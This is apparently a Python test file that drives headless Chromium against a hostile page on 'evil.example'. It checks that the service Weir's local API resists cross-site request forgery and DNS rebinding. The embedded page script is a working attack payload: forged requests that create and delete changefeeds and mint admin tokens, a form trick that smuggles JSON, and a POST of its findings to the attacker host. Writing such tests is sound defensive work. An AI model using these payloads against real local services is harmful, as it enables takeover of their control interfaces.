"""A page of another site in a real browser: it changes nothing and reads nothing, by none of the ways that pages have.

The page comes from ``evil.example``. It calls Weir's address (cross-site request forgery), and its own name, which
leads to Weir by then (DNS rebinding): a forwarder in front of Weir serves the page, and passes everything else on.
"""

import json
import os
import shutil
import subprocess
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import pytest
import uvicorn
from anyio.abc import ByteStream, SocketAttribute, SocketStream

from capture.api.http import create_app
from capture.server import _HttpServer, _listener
from tests.patience import patient
from tests.unit.capture.fakes import MemoryAccess, MemoryCluster

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here; apt-get install chromium"),
    pytest.mark.timeout(300),
]

SITE = "evil.example"
PAGE = """<!doctype html><title>a nice page</title><body><script>
const weir = "http://127.0.0.1:WEIR_PORT", results = {};
const create = JSON.stringify({changefeed_id: "evil", source_uri: "postgresql://h/d", sink_uri: "delta+file:///lake"});
const changes = [["POST", "/api/v2/changefeeds", create], ["POST", "/api/v2/owner/resign", undefined],
  ["PUT", "/api/v2/changefeeds/feed", "{}"], ["DELETE", "/api/v2/changefeeds/feed", undefined],
  ["POST", "/api/v2/changefeeds/feed/pause", undefined], ["POST", "/api/v2/tokens", '{"role": "admin"}']];
const reads = ["/api/v2/changefeeds", "/metrics", "/health", "/openapi.json", "/docs"];
const limit = () => new Promise(done => setTimeout(() => done("nothing happened"), 10000));

async function tried(name, promise) {
  try { results[name] = await Promise.race([promise, limit()]); } catch (error) { results[name] = "blocked"; }
}
async function said(answer) { return answer.type === "opaque" ? "opaque" : [answer.status, await answer.text()]; }
async function call(name, url, options) { await tried(name, fetch(url, options).then(said)); }
function loaded(element) {
  return new Promise(done => { element.onload = () => done("loaded"); element.onerror = () => done("failed");
    document.body.append(element); });
}
function form(action, type, body) {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "frame" + Math.random();
  Object.assign(form, {action, method: "post", enctype: type, target: frame.name});
  const input = document.createElement("input"), [start, end] = [body.slice(0, -1), body.slice(-1)];
  Object.assign(input, {name: start + ', "x": "', value: '"' + end}); form.append(input);
  const done = loaded(frame); document.body.append(form); form.submit(); return done;
}
(async () => {
  for (const [site, base] of [["weir", weir], ["own", ""]]) {
    for (const token of ["", "secret"]) for (const mode of ["cors", "no-cors"]) {
      const known = token ? {Authorization: "Bearer " + token} : {};
      for (const [method, path, body] of changes) for (const type of ["application/json", "text/plain"]) {
        if (body === undefined && type === "text/plain" || mode === "no-cors" && method !== "POST") continue;
        const headers = body === undefined ? known : {...known, "Content-Type": type};
        await call([site, mode, token && "token", method, path, type].join(" "), base + path,
          {method, body, headers, mode, credentials: "include"});
      }
      for (const path of reads)
        await call([site, mode, token && "token", "GET", path].join(" "), base + path, {headers: known, mode});
    }
    await tried(site + " form", form((base || location.origin) + "/api/v2/changefeeds", "text/plain", create));
    navigator.sendBeacon(base + "/api/v2/changefeeds", new Blob([create], {type: "application/json"}));
    await tried(site + " script", loaded(Object.assign(document.createElement("script"), {src: base + "/health"})));
    await tried(site + " image", loaded(Object.assign(new Image(), {src: base + "/api/v2/owner/resign"})));
    const socket = new WebSocket((base || location.origin).replace("http", "ws") + "/api/v2/changefeeds");
    await tried(site + " socket", new Promise(done => { socket.onopen = () => done("open");
      socket.onerror = () => done("failed"); }));
  }
  await fetch("http://SITE:REPORT_PORT/", {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
})();
</script>"""


@asynccontextmanager
async def weir(cluster: MemoryCluster, access: MemoryAccess, *names: str) -> AsyncIterator[int]:
    """Weir's API at this port of 127.0.0.1."""
    with _listener("127.0.0.1:0") as listener:
        app = create_app(cluster, access, names=names)
        http = _HttpServer(uvicorn.Config(app, log_config=None, lifespan="off"))
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(http.serve, [listener])
            yield listener.getsockname()[1]
            http.should_exit = True


async def results_of_the_page(port: int, directory: Path) -> dict[str, Any]:
    """Let a browser show the page until it has tried everything; return what came of it."""
    reported: list[dict[str, Any]] = []
    is_reported = anyio.Event()

    async def take_report(stream: SocketStream) -> None:
        async with stream:
            if (request := await _request(stream)) is None:
                return
            head, body = request
            length = next(int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
            while len(body) < length:
                body += await stream.receive()
            reported.append(json.loads(body))
            await stream.send(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
        is_reported.set()

    async with await anyio.create_tcp_listener(local_host="127.0.0.2") as reports:
        report_port = reports.extra(SocketAttribute.local_port)
        page = PAGE.replace("WEIR_PORT", str(port)).replace("SITE", SITE).replace("REPORT_PORT", str(report_port))

        async def serve_or_forward(stream: SocketStream) -> None:
            async with stream:
                if (request := await _request(stream)) is None:
                    return
                head, body = request
                if head.startswith(b"GET /page "):
                    said = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(page)}\r\n"
                    return await stream.send(f"{said}Connection: close\r\n\r\n{page}".encode())
                async with await anyio.connect_tcp("127.0.0.1", port) as behind, anyio.create_task_group() as tasks:
                    await behind.send(head + b"\r\n\r\n" + body)
                    tasks.start_soon(_pass_on, stream, behind, tasks.cancel_scope)
                    tasks.start_soon(_pass_on, behind, stream, tasks.cancel_scope)

        async with (
            await anyio.create_tcp_listener(local_host="127.0.0.2", local_port=port) as forwarder,
            anyio.create_task_group() as tasks,
        ):
            tasks.start_soon(reports.serve, take_report)
            tasks.start_soon(forwarder.serve, serve_or_forward)
            async with browser(f"http://{SITE}:{port}/page", directory):
                with anyio.fail_after(patient(30)):
                    await is_reported.wait()
            tasks.cancel_scope.cancel()
    return reported[0]


@asynccontextmanager
async def browser(url: str, directory: Path) -> AsyncIterator[None]:
    process = await anyio.open_process(_command(directory, url), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield
    finally:
        process.terminate()
        with anyio.CancelScope(shield=True):
            await process.wait()


def _command(directory: Path, *arguments: str) -> list[str]:
    assert CHROMIUM is not None
    options = ["--headless=new", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={directory}"]
    options += ["--no-first-run", "--disable-background-networking", "--no-proxy-server"]
    options += ["--no-sandbox"] if os.geteuid() == 0 else []
    return [CHROMIUM, *options, f"--host-resolver-rules=MAP {SITE} 127.0.0.2", *arguments]


async def _request(stream: ByteStream) -> tuple[bytes, bytes] | None:
    """Read a request up to the end of its headers; return what came behind them too. None: a browser connects
    beforehand, and may have no request."""
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            data += await stream.receive()
    except (anyio.EndOfStream, anyio.BrokenResourceError):
        return None
    head, _, body = data.partition(b"\r\n\r\n")
    return head, body


async def _pass_on(one: ByteStream, other: ByteStream, scope: anyio.CancelScope) -> None:
    try:
        while True:
            await other.send(await one.receive())
    except (anyio.EndOfStream, anyio.BrokenResourceError, anyio.ClosedResourceError):
        scope.cancel()


async def test_a_page_of_another_site_changes_and_reads_nothing(tmp_path: Path) -> None:
    """Even one that has stolen a token: the name by which it reaches Weir gives it away."""
    cluster, access = MemoryCluster(), MemoryAccess()
    async with weir(cluster, access) as port:
        results = await results_of_the_page(port, tmp_path)
    assert len(results) > 60
    for name, result in results.items():
        if name.startswith("own"):
            is_refused = (
                result in ("failed", "blocked", "loaded") or json.loads(result[1])["error_code"] == "HostRefused"
            )
            assert is_refused, (name, result)
            assert result != "loaded" or name == "own form", "of a frame that shows an error, too"
        else:
            assert result in ("blocked", "failed") or (name, result) == ("weir form", "loaded"), (name, result)
    assert access.entries == []
    assert (cluster.specs, cluster.steps, cluster.updates, access.views) == ({}, [], [], {})


async def test_the_pages_calls_would_work_if_its_name_were_allowed(tmp_path: Path) -> None:
    """Without this, the test above would pass if the page did nothing at all."""
    cluster, access = MemoryCluster(), MemoryAccess()
    async with weir(cluster, access, SITE) as port:
        results = await results_of_the_page(port, tmp_path)
    assert results["own cors token POST /api/v2/changefeeds application/json"][0] == 201
    assert results["own cors  POST /api/v2/changefeeds application/json"][0] == 401, "nothing but the token is missing"
    assert results["own cors token GET /api/v2/changefeeds"][0] == 200
    assert results["own cors  GET /docs"][0] == 200
    assert results["own script"] == "failed", "an answer is no script"
    assert list(cluster.specs) == ["evil"]
    assert all(not name.startswith("weir") or result != "opaque" for name, result in results.items())


async def test_the_documentation_is_shown_without_the_internet(tmp_path: Path) -> None:
    async with weir(MemoryCluster(), MemoryAccess()) as port:
        command = _command(tmp_path, "--virtual-time-budget=20000", "--dump-dom", f"http://127.0.0.1:{port}/docs")
        with anyio.fail_after(patient(30)):
            shown = await anyio.run_process(command, check=False)
    assert b'data-path="/api/v2/changefeeds/{changefeed_id}"' in shown.stdout
